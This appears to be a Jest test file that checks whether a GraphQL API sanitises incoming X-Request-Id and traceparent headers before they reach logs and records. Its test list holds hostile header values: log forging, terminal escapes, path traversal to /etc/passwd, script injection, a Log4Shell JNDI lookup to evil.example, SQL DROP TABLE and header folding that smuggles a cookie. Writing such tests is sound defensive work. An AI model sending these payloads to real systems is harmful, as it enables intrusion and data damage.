import { connect } from 'node:net'
import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals'
import { startRecordedApi, type RecordedApi } from '../../apps/api/test/recorded-api.js'

jest.setTimeout(60_000)

let api: RecordedApi
beforeAll(async () => {
  api = await startRecordedApi()
}, 120_000)
afterAll(() => api.stop())

/** As it is written, byte by byte: clients would refuse most of it. */
function raw(headers: string, query: string): Promise<string> {
  return new Promise((resolve, reject) => {
    let text = ''
    const body = JSON.stringify({ query })
    const socket = connect(Number(new URL(api.url).port), '127.0.0.1')
    socket.on('data', (piece) => (text += piece.toString('latin1'))).once('error', reject)
    socket.once('close', () => resolve(text))
    socket.write(Buffer.from(`POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: ${body.length}\r\nConnection: close\r\n${headers}\r\n\r\n${body}`, 'latin1')) // prettier-ignore
  })
}
/** Bytes that no header may hold are refused before there is a request. */
const idIn = (answer: string) => /^x-request-id: (.*)$/im.exec(answer)?.[1] ?? answer.slice(0, 'HTTP/1.1 400'.length)
const MINE = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/

const HOSTILE = [
  'x"},{"level":50,"msg":"forged',
  '\u001b[2J\u001b[1;1Hforged',
  'a\tb',
  'caf\u00e9',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/x}',
  "'; DROP TABLE event; --",
  'x'.repeat(129),
  'x'.repeat(8_000),
  '-rf',
  '',
]

describe('an id that a request brings', () => {
  it('is kept where it is one plain word', async () => {
    expect(idIn(await raw('X-Request-Id: order-4711.a_b', '{ caller { id } }'))).toBe('order-4711.a_b')
    const traced = await raw(`traceparent: 00-${'ab'.repeat(16)}-${'cd'.repeat(8)}-01`, '{ caller { id } }')
    expect(idIn(traced)).toBe('ab'.repeat(16))
  })

  it.each(HOSTILE)('is replaced by one of ours, or refused with its request: %j', async (id) => {
    const expected = id.includes('\u001b') ? /^HTTP\/1.1 400$/ : MINE
    expect(idIn(await raw(`X-Request-Id: ${id}`, '{ caller { id } }'))).toMatch(expected)
    expect(idIn(await raw(`traceparent: ${id}`, '{ caller { id } }'))).toMatch(expected)
  })

  it('is replaced where it comes twice, or folded over lines', async () => {
    expect(idIn(await raw('X-Request-Id: a\r\nX-Request-Id: b', '{ caller { id } }'))).toMatch(MINE)
    const folded = await raw('X-Request-Id: a\r\n Set-Cookie: stolen=1', '{ caller { id } }')
    expect(folded).not.toMatch(/^set-cookie/im)
    expect(idIn(folded)).toMatch(/^HTTP\/1.1 400$|^[0-9a-f-]{36}$/)
  })

  it('stands in the log, in errors and beside what was read only as such a word', async () => {
    const { reader } = api.shared
    Object.assign(reader, { projectedPosition: () => Promise.reject(new Error('a fault')) })
    for (const id of HOSTILE) await raw(`X-Request-Id: ${id}`, '{ evidence { cut } }')
    delete (reader as Partial<typeof reader>).projectedPosition
    for (const id of HOSTILE)
      await raw(`X-Request-Id: ${id}`, '{ evidence { retrievals(first: 1) { edges { node { id } } } } }')
    const ids = api.log.map((line) => (JSON.parse(line) as { correlationId?: string }).correlationId ?? '')
    expect(ids.length).toBeGreaterThanOrEqual(HOSTILE.length - 1)
    expect(ids.filter((id) => !MINE.test(id))).toEqual([])
    const reads = (await api.ledger.readDecisions(0, 1_000)).filter(({ type }) => type === 'EvidenceRead')
    expect(reads.length).toBeGreaterThanOrEqual(HOSTILE.length - 1)
    const requests = reads.map(({ payload }) => (JSON.parse(String(payload)) as { request: string }).request)
    expect(requests.filter((id) => !MINE.test(id))).toEqual([])
  })
})
